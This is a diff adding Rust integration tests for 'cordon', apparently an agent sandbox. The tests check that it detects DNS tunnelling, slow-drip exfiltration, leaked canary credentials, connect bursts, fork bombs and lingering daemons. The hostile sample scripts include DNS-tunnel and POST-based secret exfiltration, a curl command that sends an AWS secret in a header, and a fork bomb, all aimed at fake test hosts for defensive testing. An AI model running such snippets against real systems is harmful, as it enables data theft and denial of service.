@@ -1671,7 +1671,7 @@ fn exceeding_a_budget_or_the_blocked_threshold_terminates_the_session_when_the_p
         (
             "[response]\nterminate_after_blocked = 3\n",
             "http://other.fake.test/t",
-            "3 blocked network attempts (terminate_after_blocked = 3)",
+            "3 blocked network attempts in 24h (detect.blocked.threshold = 3)",
         ),
     ] {
         let r = net
@@ -2181,6 +2181,450 @@ fn killing_the_supervisor_leaves_the_sandbox_no_network_and_no_process() {
         closed,
         "the sandbox's output stayed open after the supervisor was killed"
     );
+}
+
+// ------------------------------------------------------------------------------------------
+// Detection, response and alerts (issue 4).
+
+/// A webhook receiver on the test namespace's loopback: every POST body, parsed.
+struct Webhook {
+    url: String,
+    rx: mpsc::Receiver<Value>,
+}
+
+impl Webhook {
+    fn start() -> Webhook {
+        use std::io::Write;
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}/alerts", l.local_addr().unwrap());
+        let (tx, rx) = mpsc::channel();
+        std::thread::spawn(move || {
+            for s in l.incoming() {
+                let Ok(mut s) = s else { return };
+                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
+                let mut got = Vec::new();
+                let mut buf = [0u8; 4096];
+                let body = loop {
+                    let Ok(n) = s.read(&mut buf) else { break None };
+                    if n == 0 {
+                        break None;
+                    }
+                    got.extend_from_slice(&buf[..n]);
+                    let text = String::from_utf8_lossy(&got).into_owned();
+                    let Some((head, body)) = text.split_once("\r\n\r\n") else {
+                        continue;
+                    };
+                    let len: usize = head
+                        .lines()
+                        .find_map(|l| l.strip_prefix("Content-Length: "))
+                        .and_then(|v| v.trim().parse().ok())
+                        .unwrap_or(0);
+                    if body.len() >= len {
+                        assert!(head.starts_with("POST /alerts HTTP/1.1"), "{head}");
+                        break Some(body[..len].to_string());
+                    }
+                };
+                let _ = s.write_all(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n");
+                if let Some(b) = body {
+                    let _ = tx.send(serde_json::from_str(&b).unwrap_or(Value::Null));
+                }
+            }
+        });
+        Webhook { url, rx }
+    }
+
+    fn policy(&self) -> String {
+        format!("[alerts]\nwebhook = \"{}\"\ntimeout = \"2s\"\n", self.url)
+    }
+
+    /// Every alert received within `wait` of the first.
+    fn received(&self, wait: Duration) -> Vec<Value> {
+        let mut all = Vec::new();
+        if let Ok(v) = self.rx.recv_timeout(Duration::from_secs(5)) {
+            all.push(v);
+            while let Ok(v) = self.rx.recv_timeout(wait) {
+                all.push(v);
+            }
+        }
+        all
+    }
+}
+
+/// The checks every stopping detection shares: exit 137, the reason in the result, on stderr
+/// and in the session's end record, one `alert` audit event for `rule`, one webhook POST with
+/// the session's attribution.
+fn assert_terminated_by(net: &FakeNet, r: &Ran, hook: &Webhook, rule: &str, reason_start: &str) {
+    let session = r.session();
+    assert_eq!(r.status, 137, "{}\n{}", r.stdout, r.stderr);
+    assert_eq!(r.result["exit_status"], 137);
+    let reason = r.result["terminated"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(reason.starts_with(reason_start), "{reason:?}\n{}", r.stderr);
+    let line = format!("cordon: session {session} terminated: {reason}");
+    assert!(
+        r.stderr.lines().any(|l| l == line),
+        "no {line:?} in\n{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.lines().any(|l| l.starts_with(&format!(
+            "cordon: alert: session {session}: {rule}: {reason} (response: terminate)"
+        ))),
+        "{}",
+        r.stderr
+    );
+    let fired = r.result["alerts"].as_array().unwrap();
+    assert_eq!(fired.len(), 1, "{}", r.result);
+    assert_eq!(fired[0]["rule"], rule);
+    assert_eq!(fired[0]["response"], "terminate");
+    let events = net.audit_events(&session);
+    assert_attributed(&events, r);
+    let alerts = records(&events, "alert", None);
+    assert_eq!(alerts.len(), 1, "{events:#?}");
+    assert_eq!(alerts[0]["rule"], format!("detect.{rule}"));
+    assert_eq!(alerts[0]["reason"], reason.as_str());
+    assert_eq!(alerts[0]["detail"]["response"], "terminate");
+    let end = records(&events, "session_end", None);
+    assert_eq!(end[0]["detail"]["terminated"], reason.as_str());
+    let posted = hook.received(Duration::from_millis(300));
+    assert_eq!(posted.len(), 1, "{posted:#?}");
+    let p = &posted[0];
+    assert_eq!(p["session"], session.as_str());
+    assert_eq!(p["user"], r.result["user"]);
+    assert_eq!(p["code_sha256"], r.result["code_sha256"]);
+    assert_eq!(p["rule"], rule);
+    assert_eq!(p["summary"], reason.as_str());
+    assert!(p["evidence"].is_object(), "{p}");
+}
+
+/// A DNS-tunnel loop: one lookup per chunk of "stolen" data under evil.test, each name new.
+const TUNNEL: &str = r#"
+import socket, sys, time
+data = b"AKIA-secret-material-" * 200
+for i in range(0, len(data), 10):
+    label = data[i:i+10].hex()
+    try:
+        socket.getaddrinfo(f"{label}.{i}.evil.test", 80)
+    except OSError:
+        pass
+    print(i // 10, flush=True)
+print("survived", flush=True)
+"#;
+
+#[test]
+fn a_dns_tunnel_loop_is_stopped_at_the_default_thresholds_with_an_alert() {
+    let Some(net) = enter("a_dns_tunnel_loop_is_stopped_at_the_default_thresholds_with_an_alert")
+    else {
+        return;
+    };
+    let hook = Webhook::start();
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&hook.policy())
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", TUNNEL]);
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "dns_tunnel",
+        "dns tunnel suspected (20 distinct names under evil.test in 10s)",
+    );
+    // Stopped within the window: 20 names, then at most the lookups in flight while the
+    // supervisor killed the sandbox.
+    let done = codes(&r.stdout).len();
+    assert!(done < 40, "{done} lookups before the kill:\n{}", r.stdout);
+    assert!(!r.stdout.contains("survived"));
+    let fired = &r.result["alerts"][0];
+    assert_eq!(fired["signal"], "distinct_names");
+    assert_eq!(fired["severity"], "high");
+    assert_eq!(fired["evidence"]["domain"], "evil.test");
+    assert_eq!(fired["evidence"]["distinct_names"], 20);
+    // The upstream DNS server never heard of any of it.
+    assert!(net.seen_since(mark, "dns").is_empty());
+}
+
+#[test]
+fn a_burst_of_blocked_connects_ends_the_session_with_an_alert() {
+    let Some(net) = enter("a_burst_of_blocked_connects_ends_the_session_with_an_alert") else {
+        return;
+    };
+    let hook = Webhook::start();
+    // Direct connects to a port no policy allows: captured, refused, counted.
+    let script = format!(
+        "import socket\nfor i in range(50):\n    s = socket.socket()\n    s.settimeout(3)\n    \
+         try:\n        s.connect(('{API_IP}', 8080)); s.send(b'x'); s.recv(1)\n    except OSError:\n        pass\n    \
+         s.close()\n    print(i, flush=True)\nprint('survived')\n"
+    );
+    let r = net
+        .cordon()
+        .policy(&hook.policy())
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", &script]);
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "blocked",
+        "5 blocked network attempts in 1m (detect.blocked.threshold = 5)",
+    );
+    assert!(codes(&r.stdout).len() < 10, "{}", r.stdout);
+}
+
+#[test]
+fn a_slow_drip_over_an_allowed_host_is_blocked_and_the_code_keeps_running() {
+    let Some(net) = enter("a_slow_drip_over_an_allowed_host_is_blocked_and_the_code_keeps_running")
+    else {
+        return;
+    };
+    let hook = Webhook::start();
+    let policy = format!(
+        "{}[detect.exfil]\nwindow = \"30s\"\nsmall_requests = 20\nresponse = \"block\"\n",
+        hook.policy()
+    );
+    // 40 small POSTs, each carrying a slice of a "secret", 50 ms apart.
+    let script = r#"
+import time, urllib.request, urllib.error
+secret = b"0123456789abcdef" * 40
+for i in range(40):
+    req = urllib.request.Request("http://api.fake.test/collect", data=secret[i*16:(i+1)*16], method="POST")
+    try:
+        code = urllib.request.urlopen(req, timeout=10).status
+    except urllib.error.HTTPError as e:
+        code = e.code
+    print(code, flush=True)
+    time.sleep(0.05)
+print("survived", flush=True)
+"#;
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", script])
+        .ok();
+    let got = codes(&r.stdout);
+    assert_eq!(got.len(), 40, "{}", r.stdout);
+    // The 20th request fires the rule when it ends; every later one is refused.
+    assert!(got[..20].iter().all(|c| c == "200"), "{got:?}");
+    assert!(got[20..].iter().all(|c| c == "403"), "{got:?}");
+    assert!(r.stdout.contains("survived"));
+    assert!(r.result["terminated"].is_null(), "{}", r.result);
+    let fired = r.result["alerts"].as_array().unwrap();
+    assert_eq!(fired.len(), 1, "{}", r.result);
+    assert_eq!(fired[0]["rule"], "exfil");
+    assert_eq!(fired[0]["signal"], "small_requests");
+    assert_eq!(fired[0]["response"], "block");
+    assert_eq!(fired[0]["evidence"]["host"], "api.fake.test");
+    // Only the first 20 reached the origin.
+    let posts = net
+        .seen_since(mark, "http")
+        .into_iter()
+        .filter(|e| e["path"] == "/collect")
+        .count();
+    assert_eq!(posts, 20);
+    let events = net.audit_events(&r.session());
+    let alerts = records(&events, "alert", None);
+    assert_eq!(alerts.len(), 1, "{events:#?}");
+    assert_eq!(alerts[0]["rule"], "detect.exfil");
+    let refused = records(&events, "budget_exhausted", None);
+    assert_eq!(refused.len(), 20, "{events:#?}");
+    assert!(
+        refused.iter().all(|e| e["rule"] == "detect"),
+        "{refused:#?}"
+    );
+    let posted = hook.received(Duration::from_millis(300));
+    assert_eq!(posted.len(), 1);
+    assert_eq!(posted[0]["rule"], "exfil");
+    assert_eq!(posted[0]["response"], "block");
+}
+
+#[test]
+fn a_honey_token_in_a_header_ends_the_session_before_the_request_leaves() {
+    let Some(net) = enter("a_honey_token_in_a_header_ends_the_session_before_the_request_leaves")
+    else {
+        return;
+    };
+    let hook = Webhook::start();
+    let policy = format!(
+        "{}[detect.canary]\nenv = [\"AWS_SECRET_ACCESS_KEY\"]\n",
+        hook.policy()
+    );
+    let mark = net.mark();
+    let script = "test ${#AWS_SECRET_ACCESS_KEY} -eq 40 || exit 3; \
+                  curl -s -o /dev/null -H \"X-Api-Key: $AWS_SECRET_ACCESS_KEY\" \
+                  http://api.fake.test/innocent; sleep 5; echo survived";
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&["sh", "-c", script]);
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "canary",
+        "canary credential AWS_SECRET_ACCESS_KEY sent out (request head)",
+    );
+    assert_eq!(r.result["alerts"][0]["severity"], "critical");
+    assert!(!r.stdout.contains("survived"));
+    assert!(
+        net.seen_since(mark, "http").is_empty(),
+        "the token reached the origin: {:?}",
+        net.seen_since(mark, "http")
+    );
+    let events = net.audit_events(&r.session());
+    let refused = records(&events, "blocked", Some("api.fake.test"));
+    assert!(
+        refused.is_empty(),
+        "recorded with the host it never reached: {refused:#?}"
+    );
+    assert_eq!(
+        records(&events, "blocked", None)[0]["rule"],
+        "detect.canary"
+    );
+}
+
+#[test]
+fn a_fork_bomb_fires_the_sandbox_rule_and_is_stopped() {
+    let Some(net) = enter("a_fork_bomb_fires_the_sandbox_rule_and_is_stopped") else {
+        return;
+    };
+    if std::env::var_os(USERNS_ENV).is_some() {
+        eprintln!(
+            "SKIPPED a_fork_bomb_fires_the_sandbox_rule_and_is_stopped: needs cgroups (root)"
+        );
+        return;
+    }
+    let hook = Webhook::start();
+    let policy = format!(
+        "{}[limits]\npids = 24\n[detect.sandbox]\nresponse = \"terminate\"\n",
+        hook.policy()
+    );
+    // Bounded: the pids limit caps it at 24 tasks, and the test's run limit at 60 s.
+    let script = "import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n    except OSError:\n        time.sleep(0.001)\n";
+    let started = Instant::now();
+    let r = net.cordon().policy(&policy).run(&[PY, "-c", script]);
+    assert!(
+        started.elapsed() < Duration::from_secs(20),
+        "{:?}",
+        started.elapsed()
+    );
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "sandbox",
+        "pids limit hit (a fork failed: fork bomb or runaway process creation)",
+    );
+    assert!(
+        r.result["limits_hit"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|l| l == "pids"),
+        "{}",
+        r.result
+    );
+}
+
+#[test]
+fn a_daemon_that_outlives_the_command_is_reported() {
+    let Some(net) = enter("a_daemon_that_outlives_the_command_is_reported") else {
+        return;
+    };
+    let r = net
+        .cordon()
+        .run(&["sh", "-c", "setsid sleep 60 >/dev/null 2>&1 & echo started"])
+        .ok();
+    let fired = r.result["alerts"].as_array().unwrap();
+    assert_eq!(fired.len(), 1, "{}", r.result);
+    assert_eq!(fired[0]["rule"], "sandbox");
+    assert_eq!(fired[0]["signal"], "lingering");
+    assert_eq!(fired[0]["response"], "log");
+    let events = net.audit_events(&r.session());
+    assert_eq!(records(&events, "alert", None).len(), 1, "{events:#?}");
+    // And the control: a command that waits for its children leaves nothing behind.
+    let r = net.cordon().run(&["sh", "-c", "sleep 0.1 & wait"]).ok();
+    assert_eq!(r.result["alerts"], serde_json::json!([]), "{}", r.result);
+}
+
+/// The benign set: workloads an agent runs every day, each run several times at the default
+/// thresholds. None may fire a rule. The false-positive rate is printed for the report.
+#[test]
+fn benign_workloads_are_not_flagged() {
+    let Some(net) = enter("benign_workloads_are_not_flagged") else {
+        return;
+    };
+    let hook = Webhook::start();
+    let has_pip = Command::new(PY)
+        .args(["-m", "pip", "--version"])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
+    let requests = r#"
+import json, urllib.request
+ok = 0
+for i in range(200):
+    if i % 10 == 0:
+        req = urllib.request.Request("http://api.fake.test/api/items", data=json.dumps({"n": i}).encode(), method="POST")
+    else:
+        req = urllib.request.Request(f"http://api.fake.test/api/items/{i}")
+    with urllib.request.urlopen(req, timeout=10) as r:
+        r.read()
+        ok += r.status == 200
+print("ok", ok)
+"#;
+    let pip = format!(
+        "{PY} -m pip download --no-deps --no-cache-dir --disable-pip-version-check \
+         --index-url https://pypi.fake.test/simple --cert /workspace/ca.pem -d /tmp/dl \
+         fakepkg fakealpha fakebeta fakegamma fakedelta fakeepsilon && ls /tmp/dl | wc -l"
+    );
+    let mut workloads: Vec<(&str, Vec<String>, &str)> = vec![(
+        "200 requests",
+        vec![PY.into(), "-c".into(), requests.into()],
+        "ok 200",
+    )];
+    if has_pip {
+        workloads.push(("pip download", vec!["sh".into(), "-c".into(), pip], "6"));
+    } else {
+        eprintln!("SKIPPED pip part of benign_workloads_are_not_flagged: {PY} has no pip");
+    }
+    let (mut runs, mut flagged) = (0, 0);
+    for (name, argv, expect) in &workloads {
+        for _ in 0..3 {
+            let r = net
+                .cordon()
+                .policy(&hook.policy())
+                .allow(&["api.fake.test:80", "pypi.fake.test"])
+                .run(argv)
+                .ok();
+            assert!(
+                r.stdout.contains(expect),
+                "{name}: {}\n{}",
+                r.stdout,
+                r.stderr
+            );
+            runs += 1;
+            let fired = r.result["alerts"].as_array().unwrap();
+            if !fired.is_empty() {
+                flagged += 1;
+                eprintln!("{name} flagged: {fired:?}");
+            }
+            let events = net.audit_events(&r.session());
+            assert!(
+                records(&events, "alert", None).is_empty(),
+                "{name}: {events:#?}"
+            );
+        }
+    }
+    println!("BENIGN false positives: {flagged} of {runs} runs");
+    assert_eq!(flagged, 0);
+    assert!(hook.rx.try_recv().is_err(), "a benign run sent an alert");
 }
 
 // ------------------------------------------------------------------------------------------
